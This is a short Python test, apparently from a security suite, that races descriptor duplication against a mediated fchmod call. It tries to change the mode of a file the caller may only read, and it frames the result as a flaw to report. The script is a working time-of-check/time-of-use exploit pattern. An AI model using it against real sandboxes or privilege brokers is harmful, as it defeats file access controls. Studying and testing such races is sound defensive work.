"""The number of a descriptor is given to another file while a call that names it is judged."""

import os
import threading

from attack import WORK, call, main
from race import until_won

PROMISE = "what a descriptor refers to is taken once"
CONTROL = "the mode of the file that may only be read has changed"
ADVICE = "report it: descriptors are duplicated before they are judged"


def attempt() -> bool:
    with open(f"{WORK}/own", "w") as file:
        file.write("x")
    own, other = os.open(f"{WORK}/own", os.O_RDONLY), os.open(f"{WORK}/readable", os.O_RDONLY)
    raced = os.dup(own)

    def swap() -> None:
        while True:
            os.dup2(other, raced)
            os.dup2(own, raced)

    threading.Thread(target=swap, daemon=True).start()

    def change() -> bool:
        call("fchmod", raced, 0o7)
        return os.stat(f"{WORK}/readable").st_mode & 0o777 == 0o7

    return until_won(change)


main(attempt)
